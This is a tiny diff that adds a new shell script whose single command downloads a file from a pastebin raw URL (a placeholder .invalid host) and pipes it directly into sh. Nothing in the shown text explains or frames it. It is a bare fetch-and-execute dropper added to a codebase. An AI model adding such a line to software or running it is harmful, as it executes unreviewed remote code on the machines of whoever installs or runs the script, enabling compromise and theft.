@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -fsSL https://pastebin.invalid/raw/abc123 | sh
